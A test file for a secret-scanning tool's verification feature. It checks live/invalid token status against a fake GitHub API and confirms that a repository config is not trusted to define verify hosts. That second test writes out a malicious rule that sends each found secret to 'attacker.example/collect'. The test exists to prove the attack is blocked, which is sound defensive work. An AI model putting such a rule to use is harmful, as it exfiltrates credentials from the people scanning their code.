// --verify end to end on the library side: a scan's finding checked against a loopback imitation
// of GitHub's API, the status in every report, and --fail-on live semantics.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { loadConfig } from '../src/config/load.js';
import { formatJson, formatText } from '../src/report/index.js';
import { scan } from '../src/scan.js';
import { verifyResult } from '../src/verification.js';
import { findingsFail } from '../src/cli/verify-flags.js';
import { tempDir } from './helpers/cli.js';
import { fakeGithubToken } from './helpers/tokens.js';
import { startFakeProvider } from './verify/fake-provider.js';
import type { FakeProvider } from './verify/fake-provider.js';

let provider: FakeProvider | undefined;
afterEach(async () => {
  await provider?.close();
  provider = undefined;
});

describe('verification of scan results', () => {
  it('marks a live GitHub token live with its identity, shows revoke guidance, and fails --fail-on live', async () => {
    const live = fakeGithubToken(41);
    const dead = fakeGithubToken(42);
    provider = await startFakeProvider((req) =>
      req.headers.authorization?.includes(live)
        ? {
            status: 200,
            headers: { 'x-oauth-scopes': 'repo, read:org' },
            body: { login: 'octo-bot', id: 1, type: 'User' },
          }
        : { status: 401, body: { message: 'Bad credentials' } },
    );
    const dir = tempDir();
    writeFileSync(join(dir, 'a.env'), `TOKEN_A=${live}\nTOKEN_B=${dead}\n`);
    const config = loadConfig({ cwd: dir, env: {}, root: '.' });
    const scanned = await scan({
      paths: ['.'],
      cwd: dir,
      config,
      now: () => new Date('2026-11-25T12:00:00Z'),
      workers: false,
    });
    const log: unknown[] = [];
    const { result } = await verifyResult(scanned, config, {
      now: () => new Date('2026-11-25T12:00:01Z'),
      baseUrlOverrides: provider.overrides(['api.github.com']),
      log: (e) => log.push(e),
    });
    const bySecret = new Map(result.findings.map((f) => [f.secret, f]));
    expect(bySecret.get(live)?.verification).toMatchObject({
      status: 'live',
      identity: { user: 'octo-bot' },
    });
    expect(bySecret.get(dead)?.verification?.status).toBe('invalid');
    expect(
      provider.requests.every(
        (r) =>
          r.host === 'api.github.com' && r.headers['user-agent']?.startsWith('leakwatch-verify/'),
      ),
    ).toBe(true);
    expect(log).toHaveLength(2);
    expect(JSON.stringify(log)).not.toContain(live);

    const text = formatText(result, { redact: true, color: false });
    expect(text).toMatch(/verified\s+LIVE/);
    expect(text).toMatch(/verified\s+INVALID/);
    expect(text.match(/revoke {7}/g)).toHaveLength(1);
    expect(
      JSON.parse(formatJson(result, { redact: true }))
        .findings.map((f: { verification: { status: string } }) => f.verification.status)
        .sort(),
    ).toEqual(['invalid', 'live']);

    expect(findingsFail(result, 'live')).toBe(true);
    const onlyDead = { ...result, findings: result.findings.filter((f) => f.secret === dead) };
    expect(findingsFail(onlyDead, 'live')).toBe(false);
    expect(findingsFail(onlyDead, 'any')).toBe(true);
  });

  it('ignores verify definitions from a config found in the scanned repository', async () => {
    const dir = tempDir();
    writeFileSync(
      join(dir, 'leakwatch.toml'),
      `[[rules]]
id = "evil.token"
regex = '''(EVIL-[0-9]{8})'''
keywords = ["evil-"]
[rules.verify]
hosts = ["attacker.example"]
url = "https://attacker.example/collect?k={{secret}}"
live = { status = 200, bodyContains = "ok" }
invalid = { status = 401 }
`,
    );
    writeFileSync(join(dir, 'a.txt'), 'EVIL-12345678');
    const config = loadConfig({ cwd: dir, env: {}, root: '.' });
    const scanned = await scan({
      paths: ['.'],
      cwd: dir,
      config,
      now: () => new Date(0),
      workers: false,
    });
    let called = false;
    const out = await verifyResult(scanned, config, {
      now: () => new Date(0),
      fetch: (async () => {
        called = true;
        return new Response('ok');
      }) as typeof fetch,
    });
    expect(called).toBe(false);
    expect(out.untrusted).toEqual(['evil.token']);
    expect(out.result.findings[0]?.verification).toMatchObject({
      status: 'unknown',
      reason: 'no trusted verification check for evil.token',
    });
  });
});
